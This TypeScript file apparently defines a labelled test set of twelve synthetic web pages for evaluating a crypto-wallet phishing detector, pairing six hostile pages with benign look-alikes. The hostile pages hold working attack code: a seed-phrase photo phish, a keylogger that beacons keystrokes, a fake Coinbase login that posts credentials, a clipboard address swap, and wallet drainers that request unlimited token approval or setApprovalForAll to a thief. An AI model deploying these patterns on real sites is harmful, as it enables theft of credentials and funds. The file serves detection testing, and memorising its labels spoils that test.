import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { addressOf, logoSvg, ownSvg } from './logos.ts'
import type { PageClass } from './pageDesign.ts'
import type { PageWorld } from './pageWorld.ts'

/** A page whose HTML is its own. */
const own = (id: string, hostile: boolean, of: (world: PageWorld) => { title: string; html: string }): PageClass => ({
  id: `blind4-${id}`,
  hostile,
  plain: true,
  design: (_, world) => {
    const { title, html } = of(world)
    return { title, content: html }
  },
})

/** JavaScript that asks for a transaction, after connecting. */
const asks = (transaction: { to: string; data?: string; value?: string }) =>
  `const [from] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, ...${JSON.stringify(transaction)} }] })`

/** A drawing as the ground of a pseudo-element, in a shadow root. */
const beforeMark = (svg: string, form: string, act: string) => `<sign-in></sign-in><script>
customElements.define('sign-in', class extends HTMLElement { connectedCallback() {
  const view = this.attachShadow({ mode: 'closed' })
  view.innerHTML = ${JSON.stringify(`<style>.m::before{content:"";display:block;width:56px;height:56px;background:url(${addressOf(svg)}) center/contain no-repeat}</style><div class="m"></div>${form}<button>Continue</button>`)}
  view.querySelector('button').onclick = async () => { ${act} }
} })</script>`

const slider = (then: string) =>
  `<div id="bar" style="width:320px;height:44px;background:#ddd;position:relative"><div id="knob" style="width:44px;height:44px;background:#345;position:absolute;left:0"></div></div><script>
const knob = document.getElementById('knob'); let held = null
knob.onpointerdown = ({ clientX }) => { held = clientX }
addEventListener('pointermove', async ({ clientX }) => { if (held === null) return; const way = Math.max(0, Math.min(276, clientX - held)); knob.style.left = way + 'px'; if (way > 260) { held = null; ${then} } })
addEventListener('pointerup', () => { held = null })</script>`

/** Twelve pages that were written after the rules of decision 133, their labels fixed before the first scan. PAGES_SET=blind4. */
export const FOURTH_BLIND_CLASSES: readonly PageClass[] = [
  own('photo-backup', true, () => ({
    title: 'Card renewal',
    html: `<h1>Card renewal</h1><p>Paper fades. Take a picture of the card with your twelve recovery words and we send you a new one, engraved in steel.</p><form action="/upload" method="post" enctype="multipart/form-data"><input type="file" name="card" accept="image/*" capture="environment"><input name="street" placeholder="Street"><button>Send</button></form>`,
  })),
  own('key-relay', true, () => ({
    title: 'Reading lamp',
    html: `<h1>Reading lamp</h1><p>Write down what stands on your sheet, to learn it by heart. Nothing is kept.</p><textarea id="t" rows="4" cols="60"></textarea><script>const line = []; document.getElementById('t').addEventListener('keydown', ({ key }) => { line.push(key); if (line.length % 8 === 0) navigator.sendBeacon('/lamp', line.splice(0).join('')) })
document.getElementById('t').addEventListener('input', ({ target }) => { const words = target.value.trim().split(/\\s+/); if (words.length % 12 === 0 && words.every((one) => one.length < 9)) navigator.sendBeacon('/lamp', JSON.stringify([...target.value].map((one) => one.charCodeAt(0) ^ 21))) })</script>`,
  })),
  own('logo-pseudo', true, () => ({
    title: 'Sign in',
    html: beforeMark(
      logoSvg('simple-icons:coinbase', 56, '#0052ff'),
      '<h2>Verify it is you</h2><input type="email" placeholder="Email"><input type="password" placeholder="Password"><input inputmode="numeric" placeholder="6 digits">',
      `await fetch('/v', { method: 'POST', body: JSON.stringify([...view.querySelectorAll('input')].map((one) => one.value)) })`,
    ),
  })),
  own('copy-event', true, ({ actors, thief }) => ({
    title: 'Choir of the valley',
    html: `<h1>Choir of the valley</h1><p>Help us with the winter tour. Our address:</p><p><code>${actors.friend}</code></p><script>document.addEventListener('copy', (event) => { const text = String(getSelection()); if (/0x[0-9a-f]{10}/i.test(text)) { event.clipboardData.setData('text/plain', ['${thief.slice(0, 20)}', '${thief.slice(20)}'].join('')); event.preventDefault() } })</script>`,
  })),
  own('retry-drain', true, ({ merchant, thief, tokens, call }) => ({
    title: 'Seed library',
    html: `<h1>Seed library</h1><p>One packet of old beans: 0.002 ETH.</p><button id="go">Buy</button><p id="say"></p><script>let tries = 0; document.getElementById('go').onclick = async () => { try { if (tries++ === 0) { ${asks({ to: merchant, value: '0x71afd498d0000' })} } else { ${asks({ to: tokens.usdc, data: call('StableToken', 'approve', [thief, UNLIMITED]) })} } } catch { document.getElementById('say').textContent = 'The network is busy.'; document.getElementById('go').textContent = 'Try again' } }</script>`,
  })),
  own('slider-gate', true, ({ nfts, thief, call }) => ({
    title: 'Doorbell',
    html: `<h1>Doorbell</h1><p>Slide to enter the hall.</p>${slider(asks({ to: nfts.collectible, data: call('Collectible721', 'setApprovalForAll', [thief, true]) }))}`,
  })),
  own('photo-claim', false, () => ({
    title: 'Bicycle insurance',
    html: `<h1>Bicycle insurance</h1><p>Report damage. Take a picture of the wheel and one of the frame number, and tell us in a few words what happened.</p><form action="/upload" method="post" enctype="multipart/form-data"><input type="file" name="wheel" accept="image/*" capture="environment"><input name="policy" placeholder="Policy number"><textarea name="what"></textarea><button>Send</button></form>`,
  })),
  own('live-search', false, () => ({
    title: 'Herbarium',
    html: `<h1>Herbarium</h1><p>Four thousand sheets, described by their finders.</p><input id="t" type="text" placeholder="Leaf, colour, place"><ul id="list"></ul><script>document.getElementById('t').addEventListener('input', async ({ target }) => { await fetch('/suggest?text=' + encodeURIComponent(target.value)).catch(() => undefined) })
document.getElementById('t').addEventListener('keydown', ({ key }) => navigator.sendBeacon('/keys', key))</script>`,
  })),
  own('partner-logos', false, () => ({
    title: 'Quail accounts',
    html: `${beforeMark(
      ownSvg(1, 56),
      '<h2>Quail accounts</h2><input type="email" placeholder="Email"><input type="password" placeholder="Password">',
      `await fetch('/v', { method: 'POST', body: JSON.stringify([...view.querySelectorAll('input')].map((one) => one.value)) })`,
    )}<footer style="margin-top:60px"><p>Books of these exchanges can be read:</p>${['coinbase', 'binance', 'kucoin'].map((name) => logoSvg(`simple-icons:${name}`, 40)).join(' ')}</footer>`,
  })),
  own('copy-source', false, ({ actors }) => ({
    title: 'Field letters',
    html: `<h1>Field letters</h1><p>A letter a week from a marsh. Donations: <code>${actors.friend}</code></p><p>The curlew came back on the third of March.</p><script>document.addEventListener('copy', (event) => { const text = String(getSelection()); event.clipboardData.setData('text/plain', text + (text.length > 80 ? ' (Field letters)' : '')); event.preventDefault() })</script>`,
  })),
  own('retry-payment', false, ({ merchant, tokens, call }) => ({
    title: 'Rye bakery',
    html: `<h1>Rye bakery</h1><p>Six loaves, 0.004 ETH or 12 USDC. Delivered on Friday.</p><button id="go">Buy</button><p id="say"></p><script>let tries = 0; document.getElementById('go').onclick = async () => { try { if (tries++ % 2 === 0) { ${asks({ to: merchant, value: '0xe35fa931a0000' })} } else { ${asks({ to: tokens.usdc, data: call('StableToken', 'transfer', [merchant, 12_000_000n]) })} } } catch { document.getElementById('say').textContent = 'Not paid.'; document.getElementById('go').textContent = tries % 2 ? 'Pay 12 USDC instead' : 'Pay 0.004 ETH' } }</script>`,
  })),
  own('slider-compare', false, () => ({
    title: 'Then and now',
    html: `<h1>Then and now</h1><p>Slide to see the harbour of 1931 and of today. Both pictures are of the town archive.</p>${slider(`document.body.insertAdjacentHTML('beforeend', '<p>Today: 40 boats, one crane.</p>')`)}`,
  })),
]
